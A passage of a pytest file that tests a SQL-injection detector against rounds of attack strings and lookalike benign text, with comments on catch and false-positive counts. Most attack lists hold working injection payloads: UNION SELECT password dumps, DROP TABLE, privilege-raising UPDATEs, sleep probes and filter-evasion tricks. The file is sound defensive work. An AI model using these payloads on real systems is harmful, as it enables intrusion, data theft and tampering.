    ("json", '=ARRAYFORMULA(IF(B2:B="","",C2:C*D2:D))'), ("form", "=FILTER(A2:D, D2:D>100)"), ("json", "=LET(x, A1*2, IF(x>10, x, 0))"),
    ("json", '=QUERY(Sales!A:E, "select B, sum(E) group by B", 1)'), ("json", "=QUERY(A1:D, \"select A, count(B) where D = 'Closed' group by A\")"),
    ("form", "=LAMBDA(x, IF(x>0, x, -x))(A2)"), ("json", '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/abc", "Sheet1!A1:C10")'),
    ("json", '=SWITCH(A2, 1, "One", 2, "Two", "Other")'), ("json", "=IFNA(VLOOKUP(A2, Prices!A:B, 2, FALSE), 0)"),
    ("json", '=IF(B2="-",0,B2)'), ("json", '=SUBSTITUTE(A2,"-","")'),
    # maths answers
    ("json", "\\frac{d}{dx}\\left( \\ln x \\right) = \\frac{1}{x}"), ("json", "\\left( \\frac{a}{b} \\right)^2 = \\frac{a^2}{b^2}"),
    ("json", "\\sin^2 x + \\cos^2 x = 1 \\Rightarrow \\left( \\sin x \\right)^2 = 1 - \\cos^2 x"),
    ("json", "pOH = -log[OH-] = -log(2.5 × 10^-4) = 3.6"), ("json", "[H+] = 10^-pH, so pH = -log(4 × 10^-5) ≈ 4.4"),
    ("form", "f(x) = \\log(x^2) for x > 0"), ("json", "$\\max(a, b) = \\frac{a + b + |a - b|}{2}$"),
    # whole statements written as code (template tags, a final `;`, a prepared statement in a snippet)
    ("json", "SELECT customer_id, SUM(amount) AS total\nFROM payments\nGROUP BY customer_id\nORDER BY total DESC;"),
    ("json", "SELECT name, email FROM users WHERE created_at > now() - interval '7 days';"),
    ("json", "SELECT count(*) FROM orders WHERE status = {{status}}"),
    ("json", "SELECT region, sum(total) FROM sales WHERE order_date BETWEEN {{from}} AND {{to}} GROUP BY region"),
    ("json", "select p.name, count(o.id) from products p join orders o on o.product_id = p.id group by p.name having count(o.id) > 10;"),
    ("form", "cursor.execute('SELECT name FROM users WHERE id = %s', (user_id,))"),
]
# Benign values another family may flag (pipes read as shell, `$q = …` as PHP): the SQL detector must stay silent.
ROUND5_NO_SQLI: list[tuple[str, str]] = [
    ("json", "StormEvents | where StartTime > ago(7d) | summarize count() by State"),
    ("json", "traces | where severityLevel >= 3 | summarize avg(duration) by bin(timestamp, 1h)"),
    ("json", "requests | summarize count() by resultCode"),
    ("json", "Heartbeat | summarize max(TimeGenerated) by Computer | where max_TimeGenerated < ago(15m)"),
    ("json", "exceptions | where timestamp > ago(1d) | summarize n = count() by type | top 5 by n"),
    ("json", "expr: sum(rate(http_requests_total{code=~\"5..\"}[5m])) by (job) > 1\nfor: 5m"),
    ("json", "- alert: DiskFull\n  expr: min(node_filesystem_avail_bytes{fstype!=\"tmpfs\"}) < 1e9"),
    ("form", "Why is this slow?\n\n```php\n$q = $pdo->prepare('SELECT * FROM orders WHERE customer_id = :id ORDER BY created_at DESC');\n```"),
]
# First pass on the code before this round (sqli.analyze of each value): 39 / 43 attacks caught (the four misses are
# formula-wrapped breakouts), 36 / 44 benign values flagged; after: 43 / 43, 0 / 44.


# --- Round 6 (blind benign batch 2): more languages that only look like SQL. A SMILES stereo centre `[C@@H]` (no
# server variable has a one-letter name), a gettext placeholder `"%(name)s"`, a title quoted mid-sentence (`"DROP
# TABLE in production: …" convinced me`: words up to a closing quote that opens prose, which no statement but SELECT
# takes after a name), filters of fields compared with values (CQL, pandas `df.query("…")`: from the value's start,
# or from the name a quote opens, `field op value` joined by AND/OR, no self-comparison, literal tautology or signal
# call), a whole SELECT passed to a call (`spark.sql("SELECT …")`, capped like a code statement), wiki table cells
# (`| 2019 || Ajax || 12` beside a `|-` row marker no SQL parses) and a call over a dict lookup (`len(d['k'])`).
# First pass on the code before this round (engine verdict): 54 / 54 attacks caught, 30 / 32 benign flagged, and
# 4 / 4 ROUND6_NO_SQLI values with an sqli finding >= 0.5 (values another family still flags: rce:history_expansion
# on a wiki table's `!!`, xss/php on `df.eval(`, php on `print(`); after: 54 / 54, 0 / 32, 0 / 4. Still flagged and
# left out: `if len(sys.argv) > 1:` (a Python call with no dict lookup, sqli:function 0.6).
ROUND6_ATTACKS: list[tuple[str, str, str]] = [
    ('var', 'q', '1 and @@version>0'),
    ('var', 'q', "1' and @@version like '5%'-- "),
    ('var', 'q', "' union select @@datadir-- -"),
    ('var', 'q', '1;select @@servername'),
    ('var', 'q', '1 or @@rowcount=1'),
    ('var', 'q', "x')and(@@version)>0#"),
    ('var', 'json', '[1]and@@version'),
    ('chain', 'q', "x' % (select 1)-- "),
    ('fmt', 'q', "admin'%(1)#"),
    ('fmt', 'q', 'x"%(select password from users)s'),
    ('fmt', 'q', "x'%(id)s or '1'='1"),
    ('chain', 'q', "x' *(select sleep(5))-- "),
    ('fmt', 'q', "1'%(2)%'"),
    ('stmt', 'q', 'x" DROP TABLE users; "'),
    ('stmt', 'q', "x' DROP TABLE users-- "),
    ('stmt', 'q', "x' drop table users; select '"),
    ('stmt', 'q', 'x" DELETE FROM users WHERE 1=1 -- " more'),
    ('stmt', 'q', "x' truncate table logs; '"),
    ('stmt', 'q', "x' ; drop table users ' "),
    ('stmt', 'form', "a' DROP TABLE accounts--"),
    ('stmt', 'q', "x' update users set role='admin' where '1'='1"),
    ('chain', 'q', 'status = open or 1=1'),
    ('chain', 'q', 'space = OPS or x = x'),
    ('chain', 'q', 'space = OPS and sleep(5)'),
    ('chain', 'q', "title ~ 'a' or 'a'='a'"),
    ('chain', 'q', '1 and ascii(substr(user(),1,1))>64'),
    ('chain', 'q', "x' and id > 5 and user = 'a"),
    ('chain', 'q', '1 and length(database())>1'),
    ('chain', 'q', "x' or username = char(97,100,109,105,110)-- "),
    ('chain', 'json', 'x") or 1=1 -- '),
    ('chain', 'q', 'f(" or 1=1 or ")'),
    ('chain', 'q', 'q("a > 1 and b = \'x\' or 1=1 -- '),
    ('chain', 'q', "x' and 1=1 and a = 'b"),
    ('chain', 'q', "x(' select * from users where 1=1 union select 1,2-- "),
    ('table', 'q', "x' || 1=1 -- "),
    ('table', 'q', '5 || 5=5'),
    ('table', 'q', "'||(select password from users limit 1)||'"),
    ('table', 'q', '1 || sleep(5)'),
    ('table', 'form', "| x' || '1'='1"),
    ('call', 'q', '1 and len(user_name())>1'),
    ('var', 'q', 'if(len(@@version)>1,1,0)'),
    ('call', 'q', "x' and len(db_name())=6--"),
    ('call', 'q', '1 or len(user_name())>0'),
    ('chain', 'q', 'x(" SELECT * FROM users WHERE 1=1 UNION SELECT password FROM admins")'),
    ('chain', 'q', "x(' select password from users where '1'='1' -- "),
    ('chain', 'q', "x(' or 1=1 or '"),
    ('table', 'form', "{|\n|-\n| x' or 1=1 -- "),
    ('table', 'q', "x' || 1=1 |-| y"),
    ('fmt', 'q', "%(name)s' or 1=1--"),
    ('chain', 'q', 'name = x or a = a'),
    ('chain', 'q', 'id = 1 or sleep(5)'),
    ('chain', 'q', 'space = OPS and 1=1'),
    ('chain', 'q', 'id = 1 and benchmark(5000000,md5(1))'),
    ('chain', 'q', 'x("select 1 from dual where 1=1 and sleep(5)")'),
]
ROUND6_BENIGN: list[tuple[str, str]] = [
    ('q', 'N[C@@H](CC1=CC=CC=C1)C(=O)O'),
    ('q', 'C[C@@H](O)C(=O)O'),
    ('json', 'O=C(O)[C@@H]1CCCN1'),
    ('q', 'CC(C)C[C@@H](C(=O)O)N'),
    ('json', 'OC[C@@H]1OC(O)[C@H](O)[C@@H](O)[C@@H]1O'),
    ('form', 'C1C[C@@H]2CC[C@H]1C2'),
    ('json', 'Delete "%(name)s"? You can restore it from the trash.'),
    ('json', "Are you sure you want to remove '%(title)s' from %(list)s?"),
    ('json', '"%(count)d" items selected'),
    ('json', 'Rename "%(old)s" to "%(new)s"?'),
    ('json', '"%(value)s" is not a valid UUID.'),
    ('form', "'%(field)s' must be unique (got %(n)d duplicates)."),
    ('form', 'I loved your talk "DROP TABLE in production: lessons learned" at PGConf and would like to join.'),
    ('json', 'The chapter "Delete from history: on forgetting" is the best part of the book.'),
    ('form', "Your post 'Truncate table bloat: a field guide' helped us a lot, thanks!"),
    ('json', 'We read "Create database at scale: the story" in our book club last week.'),
    ('form', 'After "ALTER TABLE on a live system: what we learned" went viral, we got many emails.'),
    ('q', 'project = OPS and status = Open and created >= startOfWeek() and updated > now("-1w")'),
    ('q', 'space = DEV and type = blogpost and created > now("-7d")'),
    ('q', 'type = page and label = runbook and lastmodified > now("-4w")'),
    ('json', 'df.query("price < 100 and category == \'books\'").head()'),
    ('json', 'df.query(\'age >= 18 and city == "Berlin"\')'),
    ('json', 'events.filter("dt = \'2024-06-01\' and country = \'NL\'").count()'),
    ('json', 'spark.sql("SELECT user_id FROM clicks WHERE dt = \'2024-06-02\' AND page IN (\'home\', \'cart\')").show()'),
    ('json', 'rows = con.sql("SELECT * FROM orders WHERE status = \'open\' AND total > 100").fetchall()'),
    ('json', 'pd.read_sql("SELECT id FROM users WHERE active = 1 AND country IN (\'DE\', \'AT\')", engine)'),
    ('form', '{|\n|-\n| 2018 || 5 || 3\n|-\n| 2019 || 7 || 1\n|}'),
    ('form', '|-\n| 1 || One || 1\n|-\n| 2 || Two || 4'),
    ('form', '||Name||Age||\n|Ann|31|\n|Bob|42|'),
    ('json', "with open('data/config.yaml') as fh:\n    cfg = yaml.safe_load(fh)\nlen(cfg['jobs'])"),
    ('json', "for row in rows:\n    total += len(row['items'])"),
    ('json', "def size(d):\n    return len(d['values'])"),
]
ROUND6_NO_SQLI: list[tuple[str, str]] = [
    ('json', 'df[df.eval("qty > 5 and region == \'EU\'")]'),
    ('form', '{| class="wikitable"\n|-\n! Name !! Born !! Died\n|-\n| Ada || 1815 || 1852\n|-\n| Alan || 1912 || 1954\n|}'),
    ('form', '{| class="wikitable sortable"\n|-\n! Season !! Club !! Apps\n|-\n| 2021 || [[PSV Eindhoven|PSV]] || 30\n|}'),
    ('json', "data = json.loads(body)\nprint(len(data['results']), 'results')"),
]


# Round 8 (fourth blind round): attacks of the missed techniques in other forms -- an INSERT's VALUES tuple broken
# out of (`x', 'pw') on duplicate key update …`), one more column of an UPDATE SET after a number, MariaDB's
# executable comment `/*M!…*/`, literal `+` between keywords (a second decoding makes them blanks), keywords nested
# in themselves against a filter that strips them once -- and near-misses that must stay caught beside the benign
# classes the round flagged (`3 or 4 is fine`, a clause or a UI label named in quotes, `from Lisbon.` ending a
# sentence, Cookiebot's `{stamp:'-1',…}`, a cookie listing quoted searches). First pass on the code before this
# round: 7 / 35 attacks caught, 28 / 53 benign flagged, 26 / 26 near-misses caught; after: 35 / 35, 0 / 53, 26 / 26.
# `number, name=number` alone (`30, n=12`) is left to prose: only a quoted value, WHERE or a comment makes it SQL.
ROUND8_ATTACKS: list[tuple[str, str, str]] = [
    ('values', 'form', "bob@example.org', 'x') ON DUPLICATE KEY UPDATE role='admin'-- -"),
    ('values', 'form', "guest', 'guest', 1)-- -"),
    ('values', 'q', "x', 1, 1)#"),
    ('values', 'form', "eve', 'pw', 'admin') -- "),
    ('values', 'json', "test', 'pw') on duplicate key update is_admin=1#"),
    ('values', 'q', "1', 'a'), ('2', 'b')-- -"),
    ('values', 'form', 'carol", "secret") ON DUPLICATE KEY UPDATE password="owned"#'),
    ('values', 'cookie', "a', 0x61646d696e);-- "),
    ('setcol', 'form', '25, is_admin=1 where id=7#'),
    ('setcol', 'form', '0, balance=99999-- -'),
    ('setcol', 'form', "18, email='attacker@evil.io'"),
    ('setcol', 'form', "1, password='x' where username='admin'-- "),
    ('setcol', 'json', "5, role = 'superuser'"),
    ('setcol', 'q', '100, credits=1000000 where user_id=3'),
    ('mariadb', 'q', '1 /*M!50500 or sleep(5)*/'),
    ('mariadb', 'q', '-1 /*M!100100 union select user(),2*/'),
    ('mariadb', 'form', "x' /*M! or 1=1*/-- -"),
    ('mariadb', 'q', '1 /*M!and*/ 1=1'),
    ('mariadb', 'q', '1 AND /*M!100000 BENCHMARK(5000000,MD5(1))*/'),
    ('mariadb', 'q', '1/*M!union*//*M!select*/1,2'),
    ('plus', 'q', '-5+union+select+username,password+from+users--+'),
    ('plus', 'q', "1'+or+'1'='1"),
    ('plus', 'q', '0+union+distinct+select+1,2,3'),
    ('plus', 'q', '1+and+sleep(5)'),
    ('plus', 'form', "x'+union+select+null,null--+"),
    ('plus', 'q', '99+or+1=1'),
    ('plus', 'q', '1+order+by+3--+'),
    ('plus', 'cookie', '1+and+1=2+union+all+select+@@version--+'),
    ('nested', 'q', '1 UNunionION SEselectLECT 1,2,3'),
    ('nested', 'q', '-1 uniunionon selselectect password frfromom users'),
    ('nested', 'q', "1' oorr '1'='1"),
    ('nested', 'q', '1 anandd sleesleepp(5)'),
    ('nested', 'q', "' UNIONunion SELECTselect 1-- -"),
    ('nested', 'q', '1; DRdropOP TABLE users--'),
    ('nested', 'form', '1 UNIunionON ALL SELselectECT null,version()'),
    ('is', 'q', '1 or 1 is not null'),
    ('is', 'q', '1 and 1 is true'),
    ('is', 'q', "' or 1 is not null--"),
    ('is', 'q', '1 or x is null'),
    ('is', 'q', "1 or 'a' is not null-- -"),
    ('clause', 'q', "' group by 1--"),
    ('clause', 'q', "' group by password having 1=1--"),
    ('clause', 'q', "x' order by 3-- -"),
    ('clause', 'q', "' order by 1#"),
    ('clause', 'q', '" order by 2'),
    ('from', 'q', '1 union select 1 from `users`.`x`'),
    ('from', 'q', "' union select name from users where id=1--"),
    ('from', 'q', "' union select 1 from mydb.`users`--"),
    ('label', 'q', "' select all password from users--"),
    ('label', 'q', "'; select all * from users"),
    ('label', 'q', "x' select distinct table_name from information_schema.tables--"),
    ('label', 'q', "' select all 1,2,3-- -"),
    ('member', 'q', "'-1-- -"),
    ('member', 'q', "x'-1 or '1'='1"),
    ('member', 'q', "'+1+'"),
    ('member', 'q', "admin'-'"),
    ('member', 'q', "1'-sleep(5)-'"),
    ('csv', 'q', "' union select 1,2--"),
    ('csv', 'q', "'UNION A"),
    ('csv', 'q', "' union/"),
    ('csv', 'q', '" union all select null--'),
]
ROUND8_BENIGN: list[tuple[str, str]] = [
    ('form', "print('hello', 'world') # greet"),
    ('form', "options = ('small', 'large') -- pick one"),
    ('form', "dict(name='x', role='y') # kwargs"),
    ('form', "I tried 'a', 'b') and it failed"),
    ('form', '30, n=12'),
    ('form', '2, k=5'),
    ('q', '1, x=3'),
    ('form', '12, width=100'),
    ('form', 'p < 0.05, n=40'),
    ('form', '/* Mobile menu */ .nav { display: none }'),
    ('form', '/*M: main column */ width: 60%'),
    ('form', 'see /*Most recent*/ entries'),
    ('q', 'salt+and+pepper'),
    ('q', '1+1=2'),
    ('q', '10+or+more'),
    ('q', 'black+or+white+tshirt'),
    ('q', 'select+all+text+shortcut'),
    ('q', 'c++ and java'),
    ('q', 'reunion selections 2024'),
    ('q', 'ororo munroe'),
    ('q', 'the andand gem'),
    ('q', 'disunion and deselect'),
    ('form', 'Either 3 or 4 is fine for me, whatever is easier.'),
    ('form', '1 or 2 is enough, thanks'),
    ('form', 'Size 10 or 11 is OK - both fit'),
    ('json', 'Either 5 or 6 is good, let me know'),
    ('form', 'Room 3 and 4 is booked'),
    ('q', '2 or 3 is better'),
    ('q', "how do I use 'order by' with limit"),
    ('q', 'what does "group by" do in pandas'),
    ('form', "the difference between 'order by' and 'sort by'"),
    ('q', "explain 'group by' vs 'partition by'"),
    ('form', "Is 'order by' slow on big tables?"),
    ('json', '<p>Returns are accepted within 14 days from purchase.</p>'),
    ('form', '<li>Ships from Berlin.</li><li>Free returns</li>'),
    ('form', 'Hello from Lisbon. See you soon'),
    ('json', '<p class="ql-align-center">Greetings from <strong>Oslo</strong> office.</p>'),
    ('form', 'We are open from Monday. Call us'),
    ('form', "the 'Select all' button doesn't work on mobile"),
    ('json', "Click 'Select distinct' in the menu to remove duplicates"),
    ('form', "Use 'Select All' then 'Delete' to clear the list"),
    ('form', 'Pressing "Select all" and then copy crashes the app'),
    ('form', "hit 'Drop all' to clear the queue"),
    ('cookie', "{stamp:'-3',necessary:true,preferences:false,statistics:false,marketing:false,ver:2}"),
    ('cookie', "{offset:'-5',tz:'UTC'}"),
    ('json', "{rating:'+1',user:'anna'}"),
    ('cookie', "{delta:'-1';mode:dark}"),
    ('form', "['-1','0','+1']"),
    ('cookie', '"union square","where to eat"'),
    ('cookie', '"from scratch","limit order"'),
    ('cookie', "'union jack','left luggage'"),
    ('cookie', '"having fun","order online"'),
    ('cookie', '"into the wild","from dusk till dawn"'),
]


# Benign values another family flags (rce: `;` between words, a PHP-like call; xss: `alert()`); the SQL detector
# must stay silent on them.
ROUND3_NO_SQLI: list[tuple[str, str]] = [("form", "select all; copy; paste"), ("form", "if (now() > deadline) alert()"),
                                         ("q", "json_build_object('a', 1)")]


# Round 9 (blind round 5 false positives): Jira/Confluence filters with `field [not] in (a, "b")` lists beside
# `field = value` conditions, read as a query language like the `=` chains before them; a Python generator expression
# (`sum(i.price for i in items)`) and the frames of a Python traceback (a header no SQL parses) are code, not calls in
# SQL. Near-misses: a sub-select or probe in the list, a tautology or signal call after the filter, weak calls after a
# traceback header with a breakout. Measured before the fix: 20 / 20 attacks caught, 9 / 12 benign flagged; after:
# 20 / 20, 0 / 12.
ROUND9_ATTACKS: list[tuple[str, str, str]] = [
    ('in_list', 'q', "1 and id in (select password from users)"),
    ('in_list', 'q', "1' and 1 in (1)-- "),
    ('in_list', 'q', "x' and status in (1) or 1=1-- "),
    ('in_list', 'q', 'open" and user in (select user()) -- '),
    ('in_list', 'q', "project = WEB AND status in (Done) OR 1=1"),
    ('in_list', 'q', "project = WEB AND status in (Done) AND sleep(5)"),
    ('in_list', 'q', "1 or 1 in (1,2)"),
    ('in_list', 'q', "-1' or 'a' in ('a') -- "),
    ('generator', 'q', "1 and sum(1)=1"),
    ('generator', 'q', "1' and ascii(substring(user(),1,1))>64--"),
    ('generator', 'q', "1 and max(length(database()))>1"),
    ('generator', 'q', "' or count(*) from users--"),
    ('generator', 'q', "1' and char(65)='A"),
    ('generator', 'q', "concat(0x7e,version(),0x7e)"),
    ('generator', 'form', "') or length(user())>0 -- "),
    ('traceback', 'json', "Traceback (most recent call last):\n  File \"x.py\", line 1, in f\n    x\nE\n' and sum(1)=1 --"),
    ('traceback', 'json', "Traceback (most recent call last):\n' || concat(0x7e,version()) || '"),
    ('traceback', 'json', "Traceback (most recent call last):\n1 and concat(0x7e,version())=1"),
    ('traceback', 'json', "Traceback (most recent call last):\n' union select concat(user,0x3a,password) from users-- "),
    ('traceback', 'q', "Traceback (most recent call last): ' or length(database())>0 -- "),
]
_TB = 'Traceback (most recent call last):\n  File "{}", line {}, in {}\n    {}\n{}'
ROUND9_BENIGN: list[tuple[str, str]] = [
    ('q', 'project = OPS AND issuetype in (Bug, Incident) AND resolution = Unresolved ORDER BY created DESC'),
    ('q', 'assignee = currentUser() AND status not in (Done, Closed) ORDER BY updated DESC'),
    ('q', 'labels in (frontend, "tech-debt") AND sprint in openSprints()'),
    ('q', 'project in (WEB, API, MOBILE) AND fixVersion = "2024.6" AND priority in (High, Highest)'),
    ('form', 'reporter = jsmith AND component in ("Checkout", "Payments") ORDER BY rank ASC'),
    ('q', 'space = DOCS and type in (page, blogpost) and label = "release-notes"'),
    ('json', _TB.format("/srv/app/report.py", 41, "build", "avg = sum(r.amount for r in rows) / len(rows)",
                        "ZeroDivisionError: division by zero")),
    ('json', _TB.format("/usr/lib/python3.11/site-packages/pkg/util.py", 12, "parse", "value = int(raw.strip())",
                        "ValueError: invalid literal for int() with base 10: 'abc'")),
    ('json', _TB.format("/app/jobs/sync.py", 120, "run", "count = len(set(u.id for u in users if u.active))",
                        "AttributeError: 'NoneType' object has no attribute 'id'")),
    ('json', _TB.format("/app/api/orders.py", 55, "total",
                        "return round(sum(item.price * item.qty for item in order.items), 2)",
                        "TypeError: can't multiply sequence by non-int of type 'float'")),
    ('form', "names = ', '.join(sorted(str(u.name) for u in team.members))"),
    ('form', "best = max(len(w) for w in words)"),
]


# Round 1 (free-form) and round 2 (one class per CRS rule) stay separate lists for the per-round first-pass numbers;
# one test of each kind runs over both.
_R3_ATTACKS = ROUND3_ATTACKS + ROUND3B_ATTACKS + ROUND3C_ATTACKS + ROUND3D_ATTACKS + ROUND3E_ATTACKS + ROUND3F_ATTACKS
_R3_BENIGN = ROUND3_BENIGN + ROUND3B_BENIGN + ROUND3C_BENIGN + ROUND3D_BENIGN + ROUND3E_BENIGN + ROUND3F_BENIGN
_ALL_ATTACKS = [(_id(a), a) for a in ATTACKS] + [(f"{c[0]}-{c[1]}:{c[2][:50]}", c[1:]) for c in CLASS_ATTACKS] + \
    [(f"r3-{c[0]}-{c[1]}:{c[2][:50]}", c[1:]) for c in _R3_ATTACKS] + \
    [(f"r4-{c[0]}-{c[1]}:{c[2][:50]}", c[1:]) for c in ROUND4_ATTACKS] + \
    [(f"r5-{c[0]}-{c[1]}:{c[2][:50]}", c[1:]) for c in ROUND5_ATTACKS] + \
    [(f"r6-{c[0]}-{c[1]}:{c[2][:50]}", c[1:]) for c in ROUND6_ATTACKS] + \
    [(f"r8-{c[0]}-{c[1]}:{c[2][:50]}", c[1:]) for c in ROUND8_ATTACKS] + \
    [(f"r9-{c[0]}-{c[1]}:{c[2][:50]}", c[1:]) for c in ROUND9_ATTACKS]
_ALL_BENIGN = [(_id(b), b) for b in BENIGN + ROUND2_BENIGN] + [(f"r3-{_id(b)}", b) for b in _R3_BENIGN] + \
    [(f"r4-{_id(b)}", b) for b in ROUND4_BENIGN] + [(f"r5-{_id(b)}", b) for b in ROUND5_BENIGN] + \
    [(f"r6-{_id(b)}", b) for b in ROUND6_BENIGN] + [(f"r8-{_id(b)}", b) for b in ROUND8_BENIGN] + \
    [(f"r9-{_id(b)}", b) for b in ROUND9_BENIGN]
_NO_SQLI = [(_id(b), b) for b in CODE_SNIPPETS + ROUND2_FIXED_FP + ROUND3_NO_SQLI] + [(f"r5-{_id(b)}", b) for b in ROUND5_NO_SQLI] + \
    [(f"r6-{_id(b)}", b) for b in ROUND6_NO_SQLI]


@pytest.mark.parametrize("item", [a for _, a in _ALL_ATTACKS], ids=[i for i, _ in _ALL_ATTACKS])
def test_wild_sqli_attack_is_caught(engine, item):
    carrier, value = item
    hits = engine.inspect(build(carrier, value))
    assert verdict(hits) == "attack", (carrier, value, [(h.rule, h.score) for h in hits])
    assert any(h.type == "sqli" and h.score >= 0.5 for h in hits), (carrier, value, [(h.rule, h.score) for h in hits])


@pytest.mark.parametrize("item", [b for _, b in _ALL_BENIGN], ids=[i for i, _ in _ALL_BENIGN])
def test_wild_sqli_benign_is_clean(engine, item):
    carrier, value = item
    hits = engine.inspect(build(carrier, value))
    assert verdict(hits) == "clean", (carrier, value, [(h.type, h.rule, h.score, h.value) for h in hits])


@pytest.mark.parametrize("item", [b for _, b in _NO_SQLI], ids=[i for i, _ in _NO_SQLI])
def test_code_snippet_or_fixed_false_positive_has_no_sqli_finding(engine, item):
    # other detectors may judge these (code is code); only the SQL detector is held to silence
    carrier, value = item
    hits = [h for h in engine.inspect(build(carrier, value)) if h.type == "sqli" and h.score >= 0.5]
    assert not hits, (carrier, value, [(h.rule, h.score) for h in hits])


def test_round2_sets_are_distinct():
    assert len({c[1:] for c in CLASS_ATTACKS}) == len(CLASS_ATTACKS) >= 180
    assert not {c[1:] for c in CLASS_ATTACKS} & set(ATTACKS)
    assert len(set(ROUND2_BENIGN)) == len(ROUND2_BENIGN) >= 45


@pytest.mark.parametrize("value", ["She said: 'where did you get that?!'", "'where are you' she asked", "Tom's 'where to eat' list"])
def test_where_followed_by_prose_is_not_a_clause(value):
    f = sqli.analyze(value)
    assert f is None or f.score < THRESHOLD, f


@pytest.mark.parametrize("value", ["x' where id=1--", "1' where name like 'a%'--", "a' where id in (1,2)--", "a' where x is null--"])
def test_where_followed_by_a_condition_is_a_clause(value):
    f = sqli.analyze(value)
    assert f is not None and f.score >= THRESHOLD


def test_round3_sets_are_distinct():
    r3 = [a[1:] for a in _R3_ATTACKS]
    assert len(set(r3)) == len(r3) >= 200
    assert len(set(_R3_BENIGN)) == len(_R3_BENIGN) >= 160
    assert not set(r3) & set(ATTACKS + [c[1:] for c in CLASS_ATTACKS])
    assert not set(_R3_BENIGN) & set(BENIGN + ROUND2_BENIGN)


def test_round4_sets_are_distinct():
    r4 = [a[1:] for a in ROUND4_ATTACKS]
    assert len(set(r4)) == len(r4) >= 40 and len(set(ROUND4_BENIGN)) == len(ROUND4_BENIGN) >= 30
    assert not set(r4) & set(ATTACKS + [c[1:] for c in CLASS_ATTACKS] + [a[1:] for a in _R3_ATTACKS])
    assert not set(ROUND4_BENIGN) & set(BENIGN + ROUND2_BENIGN + _R3_BENIGN)


def test_round5_sets_are_distinct():
    r5 = [a[1:] for a in ROUND5_ATTACKS]
    assert len(set(r5)) == len(r5) >= 40 and len(set(ROUND5_BENIGN + ROUND5_NO_SQLI)) == len(ROUND5_BENIGN + ROUND5_NO_SQLI) >= 40
    earlier = ATTACKS + [c[1:] for c in CLASS_ATTACKS] + [a[1:] for a in _R3_ATTACKS + ROUND4_ATTACKS]
    assert not set(r5) & set(earlier)
    assert not set(ROUND5_BENIGN + ROUND5_NO_SQLI) & set(BENIGN + ROUND2_BENIGN + _R3_BENIGN + ROUND4_BENIGN)


def test_round6_sets_are_distinct():
    r6 = [a[1:] for a in ROUND6_ATTACKS]
    assert len(set(r6)) == len(r6) >= 50 and len(set(ROUND6_BENIGN + ROUND6_NO_SQLI)) == len(ROUND6_BENIGN + ROUND6_NO_SQLI) >= 30
    earlier = ATTACKS + [c[1:] for c in CLASS_ATTACKS] + [a[1:] for a in _R3_ATTACKS + ROUND4_ATTACKS + ROUND5_ATTACKS]
    assert not set(r6) & set(earlier)
    assert not set(ROUND6_BENIGN + ROUND6_NO_SQLI) & set(BENIGN + ROUND2_BENIGN + _R3_BENIGN + ROUND4_BENIGN + ROUND5_BENIGN + ROUND5_NO_SQLI)


def test_round8_sets_are_distinct():
    r8 = [a[1:] for a in ROUND8_ATTACKS]
    assert len(set(r8)) == len(r8) >= 60 and len(set(ROUND8_BENIGN)) == len(ROUND8_BENIGN) >= 50
    earlier = ATTACKS + [c[1:] for c in CLASS_ATTACKS] + [a[1:] for a in _R3_ATTACKS + ROUND4_ATTACKS + ROUND5_ATTACKS +
                                                           ROUND6_ATTACKS]
    assert not set(r8) & set(earlier)
    assert not set(ROUND8_BENIGN) & set(BENIGN + ROUND2_BENIGN + _R3_BENIGN + ROUND4_BENIGN + ROUND5_BENIGN + ROUND6_BENIGN)


def test_round9_sets_are_distinct():
    r9 = [a[1:] for a in ROUND9_ATTACKS]
    assert len(set(r9)) == len(r9) >= 20 and len(set(ROUND9_BENIGN)) == len(ROUND9_BENIGN) >= 12
    earlier = ATTACKS + [c[1:] for c in CLASS_ATTACKS] + [a[1:] for a in _R3_ATTACKS + ROUND4_ATTACKS + ROUND5_ATTACKS +
                                                           ROUND6_ATTACKS + ROUND8_ATTACKS]
    assert not set(r9) & set(earlier)
    assert not set(ROUND9_BENIGN) & set(BENIGN + ROUND2_BENIGN + _R3_BENIGN + ROUND4_BENIGN + ROUND5_BENIGN + ROUND6_BENIGN +
                                        ROUND8_BENIGN)
